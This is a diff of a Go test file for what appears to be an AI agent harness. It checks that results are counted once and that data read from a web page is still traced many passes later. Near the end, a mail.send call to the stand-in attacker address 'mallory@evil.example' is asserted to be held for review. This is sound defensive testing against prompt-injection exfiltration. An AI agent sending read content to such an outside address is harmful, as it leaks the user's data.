@@ -3,6 +3,7 @@ package activities_test
 import (
 	"context"
 	"encoding/json"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -194,6 +195,41 @@ steps:
 		}
 	}
 	require.True(t, o.call(t, "1.1/repeat").Flow.Traced)
-	require.Equal(t, 2, counted.results, "the results of two calls, whatever the number of moves")
+	require.Equal(t, 1, counted.results, "the result that has come since the run before, whatever the number of moves")
 	require.GreaterOrEqual(t, counted.reads, 2)
+}
+
+// An admission reads the results that have come since the one before, however many runs of Compose and passes of an agent there are.
+func TestDataFlow_AnAdmissionReadsOnlyNewResults(t *testing.T) {
+	t.Parallel()
+	const items = 20
+	counted := &countedTexts{}
+	o := newOffice(t, correspondents, func(o *office) {
+		counted.TextStore = o.store.TextStore
+		o.store.TextStore = counted
+	})
+	o.letsWritesRun(t)
+	o.keeps(t, composed(t, `kind: composition
+name: flow.each
+description: Writes.
+steps:
+  - {id: read, tool: page.read, input: {url: "https://offers.example"}}
+  - id: each
+    for_each: "[`+strings.TrimSuffix(strings.Repeat("1,", items), ",")+`]"
+    max_parallel: 1
+    tool: mail.send
+    input: {text: "write"}
+`))
+	_, err := o.launches(t, protocol.StartSession{Document: document(), Source: jig.SourceCLI, Task: "write to bo@acme.example"})
+	require.NoError(t, err)
+	o.asks(t, 1, "flow.each", `{}`)
+	o.composesCall(t, "1.1")
+	require.GreaterOrEqual(t, counted.reads, items)
+	for pass := range items {
+		o.does(t, 2+pass, "note.repeat", `{"text":"write","limit":`+strconv.Itoa(pass)+`}`)
+	}
+	require.GreaterOrEqual(t, counted.reads, 2*items)
+	require.LessOrEqual(t, counted.results, 2*items+3, "every result once")
+	require.Equal(t, jig.CallWaiting, o.asks(t, items+3, "mail.send", `{"to":"mallory@evil.example"}`).Status)
+	require.Contains(t, strings.Join(o.pending(t, jig.CallID(items+3, 1)).Reasons, "\n"), "1.1/read (page.read)", "what was read long ago is still compared")
 }
